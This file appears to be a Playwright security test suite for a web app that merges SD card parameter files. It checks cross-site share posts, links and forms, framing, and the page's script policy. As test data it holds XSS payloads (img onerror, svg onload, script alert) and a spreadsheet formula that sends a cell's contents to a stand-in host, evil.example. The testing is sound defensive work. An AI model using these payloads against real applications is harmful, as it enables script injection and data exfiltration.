// What another site can make the app do (nothing), and what hostile text can make it do (nothing either):
// each entry point tried from a second origin on a loopback address, markup everywhere it is shown or
// written, and the page's policy against scripts injected into it.
import { readFile } from "node:fs/promises";
import type { BrowserContext, Download, Page } from "@playwright/test";
import { expect, test } from "../test";
import Papa from "papaparse";
import { fileListIntents, recordFileIntents } from "../../../app/lib/merger/fileListIntents";
import { refusedShareNotice, refusedShareQuery } from "../../../app/lib/merger/sharedFiles";
import { recordIntents, recordListIntents } from "../../../app/lib/records/recordIntents";
import { toastMessages } from "../../../app/lib/shell/toastMessages";
import { fileEntries, fileEntry, pickFiles, siteFiles } from "../helpers";
import { startOtherSite, type OtherSite, type ShareOptions } from "../otherSite";

// The service worker answers here (offline use, the share target), so it runs, as in the technician's browser.
test.use({ serviceWorkers: "allow" });

let crossSite: OtherSite;
let sameSite: OtherSite;

test.beforeAll(async () => {
  crossSite = await startOtherSite("127.0.0.2");
  sameSite = await startOtherSite("127.0.0.1");
});

test.afterAll(async () => {
  await Promise.all([crossSite.close(), sameSite.close()]);
});

const evilFile = { name: "KUNDESPEC_evil.txt", text: "P001\r\n999\r\n" };

/** Opens /files and waits until the service worker is active: from then on it answers the share target. */
async function openFilesWithWorker(page: Page) {
  await page.goto("/files");
  await page.evaluate(async () => {
    await navigator.serviceWorker.ready;
  });
}

/** Waits until /files shows its list (the loader has run). */
async function filesScreenShown(page: Page, fileCount: number) {
  await expect(page.getByRole("heading", { name: "SD card file merger" })).toBeVisible();
  if (fileCount === 0) await expect(page.getByText("No files added yet.")).toBeVisible();
  else await expect(fileEntries(page)).toHaveCount(fileCount);
}

/** A share as a page of the app itself sends it, which the worker keeps (no test can drive the real share sheet). */
async function shareFromThisDevice(page: Page, file: { name: string; text: string }) {
  await page.evaluate(({ name, text }) => {
    const form = Object.assign(document.createElement("form"), {
      method: "post",
      action: "/files/share",
      enctype: "multipart/form-data",
    });
    const input = Object.assign(document.createElement("input"), { type: "file", name: "file" });
    const files = new DataTransfer();
    files.items.add(new File([text], name, { type: "text/plain" }));
    input.files = files.files;
    form.append(input);
    document.body.append(form);
    form.submit();
  }, file);
}

const waitingFiles = (page: Page) => page.getByTestId("waiting-file-name");

/** The list is empty and no shared file waits. */
async function nothingWaits(page: Page) {
  await filesScreenShown(page, 0);
  await expect(waitingFiles(page)).toHaveCount(0);
}

/** Another site's page, in its own tab beside the app's, that hides its origin and posts `evilFile` into `into`. */
async function openHidingSharePage(
  context: BrowserContext,
  site: OtherSite,
  into: ShareOptions["into"],
  baseURL: string,
) {
  const otherPage = await context.newPage();
  await otherPage.goto(site.sharePage(`${baseURL}/files/share`, evilFile, { hideOrigin: true, into }));
  return otherPage;
}

test.describe("the share target", () => {
  for (const [from, site, options] of [
    ["a form on another site", () => crossSite, {}],
    ["a form on another site that hides its origin", () => crossSite, { hideOrigin: true }],
    ["a form on the same host, another port", () => sameSite, {}],
  ] as const) {
    test(`${from} posting a file adds nothing and leaves nothing waiting`, async ({ page, baseURL }) => {
      await openFilesWithWorker(page);
      await page.goto(site().sharePage(`${baseURL}/files/share`, evilFile, options));
      // The service worker answered (a refused share goes to /files, which says so; nothing kept), not the network.
      await page.waitForURL(`${baseURL}/files${refusedShareQuery}`);
      await expect(page.getByRole("alert").filter({ hasText: refusedShareNotice.title })).toBeVisible();
      await nothingWaits(page);
      await page.reload();
      await nothingWaits(page);
    });
  }

  test("a form on another site that hides its origin, posting into a new tab on a click, adds nothing", async ({
    page,
    context,
    baseURL,
  }) => {
    await openFilesWithWorker(page);
    const otherPage = await openHidingSharePage(context, crossSite, "new tab", baseURL!);
    const [newTab] = await Promise.all([
      context.waitForEvent("page"),
      otherPage.getByRole("button", { name: "Share" }).click(),
    ]);
    await newTab.waitForURL(`${baseURL}/files${refusedShareQuery}`);
    await expect(newTab.getByRole("alert").filter({ hasText: refusedShareNotice.title })).toBeVisible();
    await nothingWaits(newTab);
    await page.reload();
    await nothingWaits(page);
  });

  test("a form on the same host, another port, that hides its origin, posting into a hidden frame, adds nothing and shows nothing", async ({
    page,
    context,
    baseURL,
  }) => {
    await openFilesWithWorker(page);
    const otherPage = await openHidingSharePage(context, sameSite, "hidden frame", baseURL!);
    // The frame has had its answer: had the worker kept the file, it would be in the cache by now.
    await expect(otherPage).toHaveTitle("sent");
    expect(otherPage.frames().some((frame) => frame.url().startsWith(`${baseURL}/`))).toBe(false);
    await expect(otherPage.frameLocator("iframe").getByRole("heading", { name: "SD card file merger" })).toHaveCount(0);
    await page.reload();
    await nothingWaits(page);
  });

  test("files shared from this device wait until the technician adds or discards them", async ({ page, baseURL }) => {
    // Two shares and five full page loads.
    test.slow();
    await openFilesWithWorker(page);
    await shareFromThisDevice(page, { name: "standard.txt", text: "P001\r\n1\r\n" });
    await page.waitForURL(`${baseURL}/files`);
    await filesScreenShown(page, 0);
    await expect(waitingFiles(page)).toHaveText(["standard.txt"]);
    await expect(page.getByText("Waiting", { exact: true })).toBeVisible();
    await page.getByRole("button", { name: "Add 1 shared file: standard.txt" }).click();
    await filesScreenShown(page, 1);
    await expect(fileEntry(page, "standard.txt")).toBeVisible();
    await expect(waitingFiles(page)).toHaveCount(0);

    await shareFromThisDevice(page, evilFile);
    await page.waitForURL(`${baseURL}/files`);
    await expect(waitingFiles(page)).toHaveText([evilFile.name]);
    await page.getByRole("button", { name: `Discard 1 shared file: ${evilFile.name}` }).click();
    await expect(waitingFiles(page)).toHaveCount(0);
    await page.reload();
    await filesScreenShown(page, 1);
    await expect(waitingFiles(page)).toHaveCount(0);
  });
});

const markup = {
  standardName: "standard <img src=x onerror=alert(1)>.txt",
  customerName: "KUNDESPEC <svg onload=alert(2)>.txt",
  standardValue: "<img src=x onerror=alert(3)>",
  customerValue: "<script>alert(4)</script>",
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  label: "<img src=x onerror=alert(5)> pool 2",
};

/** Everything the test adds: two files whose names and values are markup, and a formula. */
async function addHostileFiles(page: Page) {
  await pickFiles(page, [
    {
      name: markup.standardName,
      mimeType: "text/plain",
      buffer: Buffer.from(`P001\r\n${markup.standardValue}\r\nP002\r\n${markup.formula}\r\nP003\r\n-5\r\n`),
    },
    {
      name: markup.customerName,
      mimeType: "text/plain",
      buffer: Buffer.from(`P001\r\n${markup.customerValue}\r\n`),
    },
  ]);
  await filesScreenShown(page, 2);
}

/** Nothing of the markup became an element, and no script of it ran (a dialog would have opened). */
async function noMarkupRan(page: Page, dialogs: string[]) {
  await expect(page.locator('img[src="x"], svg[onload], script:text("alert(4)")')).toHaveCount(0);
  expect(dialogs).toEqual([]);
}

async function textOf(download: Promise<Download>) {
  return (await readFile((await (await download).path())!)).toString("utf8");
}

test("names, labels and values with markup are text in the list, the tables, the records, print and CSV", async ({
  page,
}) => {
  // Many screens and three downloads in one test.
  test.slow();
  const dialogs: string[] = [];
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  await page.goto("/files");
  await addHostileFiles(page);
  await expect(fileEntry(page, markup.standardName)).toBeVisible();
  await expect(fileEntry(page, markup.customerName)).toBeVisible();
  const table = page.getByRole("table", { name: /parameters/i }).first();
  await expect(table.getByText(markup.customerValue)).toBeVisible();
  await expect(table.getByText(markup.formula)).toBeVisible();
  await noMarkupRan(page, dialogs);

  await page.emulateMedia({ media: "print" });
  await expect(page.getByText(markup.standardName).first()).toBeVisible();
  await noMarkupRan(page, dialogs);
  await page.emulateMedia({ media: "screen" });

  const parameterCsv = textOf(page.waitForEvent("download"));
  await page.getByRole("button", { name: "Export CSV" }).click();
  const parameterRows = Papa.parse<string[]>((await parameterCsv).replace(/^\uFEFF/, "")).data;
  expect(parameterRows.slice(1).map((row) => row.slice(0, 2))).toEqual([
    ["P001", markup.customerValue],
    // A spreadsheet shows it as text instead of running it; a plain number stays a number.
    ["P002", `'${markup.formula}`],
    ["P003", "-5"],
  ]);
  expect(parameterRows[1]![3]).toBe(markup.customerName);

  await page.getByRole("textbox", { name: "Site / unit (optional)" }).fill(markup.label);
  const parFile = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download SD card file" }).click();
  await parFile;
  await expect(page.getByText("Added to the service records.")).toBeVisible();

  await page.goto("/records");
  const record = page.getByTestId("service-record");
  await expect(record).toContainText(markup.label);
  const recordsCsv = textOf(page.waitForEvent("download"));
  await page.getByRole("button", { name: "Export all as CSV" }).click();
  const [recordRow] = Papa.parse<Record<string, string>>((await recordsCsv).replace(/^\uFEFF/, ""), {
    header: true,
  }).data;
  expect(recordRow!.Label).toBe(markup.label);
  expect(recordRow!["Input files"]).toContain(markup.customerName);

  await record.getByRole("link").click();
  await expect(page.getByRole("heading", { name: "Service record", level: 1 })).toBeVisible();
  for (const shown of [markup.label, markup.standardName, markup.customerName, markup.customerValue])
    await expect(page.getByText(shown).first()).toBeVisible();
  await page.emulateMedia({ media: "print" });
  await expect(page.getByText(markup.customerName).first()).toBeVisible();
  await noMarkupRan(page, dialogs);
});

/** What the technician has on this device: the list, the waiting share, the records, the marks in localStorage. */
async function whatIsKept(page: Page) {
  await page.goto("/files");
  await filesScreenShown(page, 1);
  await expect(waitingFiles(page)).toHaveCount(1);
  const files = await page.getByTestId("file-path").allTextContents();
  const waiting = await waitingFiles(page).allTextContents();
  await page.goto("/records");
  // The list is read once the records are shown (the page's loader has run).
  await expect(page.getByRole("status", { name: "Loading" })).toHaveCount(0);
  await expect(page.getByRole("button", { name: "Export all as CSV" })).toBeVisible();
  const records = await page.getByTestId("service-record").allTextContents();
  const storage = await page.evaluate(() => ({ ...localStorage }));
  return { files, waiting, records, storage };
}

/**
 * Something of everything another site might want to change: a listed file, a service record, a share
 * waiting for Add. Returns what is kept and the ids another site would need to name them.
 */
async function keepSomething(page: Page, baseURL: string) {
  await openFilesWithWorker(page);
  await pickFiles(page, [{ name: "standard.txt", mimeType: "text/plain", buffer: Buffer.from("P001\r\n1\r\n") }]);
  await filesScreenShown(page, 1);
  const parFile = page.waitForEvent("download");
  await page.getByRole("button", { name: "Download SD card file" }).click();
  await parFile;
  await expect(page.getByText("Added to the service records.")).toBeVisible();
  await shareFromThisDevice(page, { name: "waiting.txt", text: "P9\r\n9\r\n" });
  await page.waitForURL(`${baseURL}/files`);
  await expect(waitingFiles(page)).toHaveText(["waiting.txt"]);
  // The other site is assumed to know the share's id, though it is random.
  const shareId = await page.evaluate(async () => {
    const [entry] = await (await caches.open("shared-files")).keys();
    return new URL(entry!.url).pathname.split("/")[2]!;
  });
  await page.goto("/records");
  const recordId = (await page.getByTestId("service-record").getByRole("link").getAttribute("href"))!.split("/")[2]!;
  return { shareId, recordId, kept: await whatIsKept(page) };
}

/** Records every dialog (a script of the markup would open one) and every download the page starts. */
function watchPage(page: Page) {
  const seen = { dialogs: [] as string[], downloads: [] as string[] };
  page.on("dialog", (dialog) => {
    seen.dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  page.on("download", (download) => seen.downloads.push(download.suggestedFilename()));
  return seen;
}

test("a link or a form from another site to any screen changes nothing, whatever its query string or fields", async ({
  page,
  baseURL,
}) => {
  // Eight visits and four posts from the other site, after one setup of something kept: every screen that reads its
  // address, and a post to each screen that keeps something.
  test.slow();
  const seen = watchPage(page);
  const { shareId, recordId, kept } = await keepSomething(page, baseURL!);
  seen.downloads.length = 0;

  const hostile = encodeURIComponent("<img src=x onerror=alert(1)>");
  const addresses = [
    `/files?shared=${shareId}&intent=${fileListIntents.deleteAll}&q=${hostile}&show=<script>&problems=-1`,
    `/files?intent=${recordFileIntents.loadRecordFiles}&recordId=${recordId}`,
    `/files/share?file=${hostile}`,
    `/records?intent=${recordListIntents.exportCsv}`,
    `/records/${recordId}?intent=${recordIntents.delete}`,
    `/records/${hostile}`,
    `/actions?tab=have&code=${hostile}&output=${hostile}&action=x`,
    `/${hostile}`,
  ];
  for (const address of addresses) {
    await page.goto(crossSite.linkPage(`${baseURL}${address}`));
    await page.waitForURL(`${baseURL}${address.split("?")[0]}**`);
    await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
    await noMarkupRan(page, seen.dialogs);
  }

  const forms: [string, Record<string, string>][] = [
    ["/files", { intent: fileListIntents.deleteAll }],
    ["/files", { intent: recordFileIntents.loadRecordFiles, recordId }],
    ["/files", { intent: fileListIntents.addShared, share: shareId }],
    [`/records/${recordId}`, { intent: recordIntents.delete }],
  ];
  for (const [action, fields] of forms) {
    await page.goto(crossSite.formPage(`${baseURL}${action}`, fields));
    await page.waitForURL(`${baseURL}${action}`);
    await expect(page.getByRole("navigation", { name: "Main" })).toBeVisible();
  }

  expect(await whatIsKept(page)).toEqual(kept);
  expect(seen).toEqual({ dialogs: [], downloads: [] });
});

test("an address that is not valid (a broken %-escape) is answered 400, and the app is still served", async ({
  request,
}) => {
  expect((await request.get("/%E0%A4%A")).status()).toBe(400);
  expect((await request.get("/files")).status()).toBe(200);
});

test("a toast another app on this host leaves in a cookie is never shown as the app's", async ({
  page,
  context,
  baseURL,
}) => {
  // Cookies belong to the host, whatever the port: another app on 127.0.0.1 may leave one under the name the app's
  // toasts once used. The app's own toasts stay in its tab.
  const message = "Message from another app on this host";
  const flash = { __flash_flash__: { toast: { type: "success", message } } };
  await context.addCookies([
    { name: "toolbox-toast", value: encodeURIComponent(JSON.stringify(flash)), url: baseURL! },
  ]);
  // Every text that appears on the page, as it appears: a toast closes by itself after a while.
  await page.addInitScript(() => {
    const seen: string[] = ((window as unknown as { seen: string[] }).seen = []);
    new MutationObserver(() => seen.push(document.body.innerText)).observe(document, {
      subtree: true,
      childList: true,
      characterData: true,
    });
  });
  await page.goto("/files");
  await pickFiles(page, [siteFiles[0]!]);
  await expect(fileEntries(page)).toHaveCount(1);
  await page.getByRole("button", { name: "Download SD card file" }).click();
  await expect(page.getByText(toastMessages.serviceRecordAdded)).toBeVisible();
  const seen = await page.evaluate(() => (window as unknown as { seen: string[] }).seen);
  expect(seen.some((text) => text.includes(message))).toBe(false);
});

test("another site cannot show the app in a frame", async ({ page, baseURL }) => {
  await page.goto(crossSite.framePage(`${baseURL}/files`));
  await expect(page).toHaveTitle("framed");
  await expect(page.frameLocator("iframe").getByRole("heading", { name: "SD card file merger" })).toHaveCount(0);
  expect(page.frames().some((frame) => frame.url().startsWith(`${baseURL}/`))).toBe(false);
});

test("the page's policy stops a script injected into it, and markup written into the page as HTML", async ({
  page,
}) => {
  await page.goto("/files");
  await expect(page.getByRole("heading", { name: "SD card file merger" })).toBeVisible();
  type Probe = Window & { ran: string[]; violations: string[] };
  const attempts = await page.evaluate(async () => {
    const probe = window as unknown as Probe;
    probe.ran = [];
    probe.violations = [];
    document.addEventListener("securitypolicyviolation", (event) => probe.violations.push(event.effectiveDirective));
    const attempts: Record<string, string> = {};
    async function attempt(name: string, inject: () => Promise<void> | void) {
      try {
        await inject();
        attempts[name] = "inserted";
      } catch (error) {
        attempts[name] = `refused: ${(error as Error).name}`;
      }
    }
    await attempt("inline script element", () => {
      const script = document.createElement("script");
      script.append(document.createTextNode("window.ran.push('script')"));
      // An inline script that may run, runs as it is inserted.
      document.body.append(script);
    });
    await attempt("event handler attribute", async () => {
      const image = document.createElement("img");
      image.setAttribute("onerror", "window.ran.push('onerror')");
      // Listeners run in the order they were added: once this one runs, the attribute's handler has had its turn.
      const failed = new Promise((resolve) => image.addEventListener("error", resolve));
      image.src = "/no-such-image.png";
      document.body.append(image);
      await failed;
    });
    await attempt("markup as HTML", () => {
      document.body.insertAdjacentHTML("beforeend", "<img src=/no-such-image.png onerror=\"window.ran.push('html')\">");
    });
    return attempts;
  });
  // Trusted Types refuses markup written as HTML before it is parsed.
  expect(attempts["markup as HTML"]).toBe("refused: TypeError");
  // The two others are reported as the policy's violations (as events, a moment after they happen).
  await expect
    .poll(() => page.evaluate(() => (window as unknown as Probe).violations.length))
    .toBeGreaterThanOrEqual(2);
  const { ran, violations } = await page.evaluate(() => {
    const { ran, violations } = window as unknown as Probe;
    return { ran, violations };
  });
  expect(ran).toEqual([]);
  for (const directive of violations)
    expect(["script-src-elem", "script-src-attr", "require-trusted-types-for"]).toContain(directive);
});
